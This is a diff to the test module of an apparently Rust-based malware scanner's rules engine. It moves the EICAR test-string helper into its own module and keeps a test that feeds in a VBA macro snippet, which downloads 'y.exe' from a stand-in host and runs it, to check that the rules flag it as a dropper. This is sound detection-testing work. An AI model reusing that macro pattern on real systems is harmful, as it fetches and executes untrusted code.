@@ -176,11 +176,7 @@ pub struct RulesError {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    /// In two pieces, so that no scanner takes this file for the test file.
-    pub(crate) fn eicar() -> Vec<u8> {
-        [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat().into_bytes()
-    }
+    use crate::eicar::eicar;
 
     fn names(data: &[u8], known: Known<'_>) -> Vec<String> {
         let mut rules = Rules::compile(&[RuleFile::embedded()]).unwrap();
@@ -194,7 +190,7 @@ mod tests {
         let plain = Known::default();
         let archived = Known { in_archive: true, ..plain };
         let r#macro = Known { extension: "macro", ..archived };
-        assert_eq!(names(&eicar(), plain), ["EICAR_test_file"]);
+        assert_eq!(names(eicar().as_bytes(), plain), ["EICAR_test_file"]);
         assert_eq!(
             names(b"Sub AutoOpen()\nURLDownloadToFile 0, \"http://x/y.exe\", f\nShell (f)\n", r#macro),
             ["Macro_dropper", "Macro_starts_a_program"]
